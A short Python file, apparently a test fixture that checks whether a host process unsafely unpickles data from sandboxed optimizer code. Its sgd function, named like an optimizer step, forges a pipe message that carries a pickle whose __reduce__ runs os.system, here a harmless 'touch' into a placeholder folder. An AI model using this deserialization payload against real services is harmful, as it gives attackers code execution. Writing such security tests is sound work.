# Sends a pickle that would run code where it is loaded.
# Must: be no message of the wire.
import os
import pickle
import struct
import sys


class Run:
    def __reduce__(self):
        return os.system, ("touch @FOLDER@/new",)


def sgd(w, dw, config=None):
    step = sys._getframe()
    while "nonce" not in step.f_locals:
        step = step.f_back
    nonce = step.f_locals["nonce"]
    data = pickle.dumps(Run())
    os.write(3, struct.pack("<IQ", len(data), nonce) + data)
    os._exit(0)
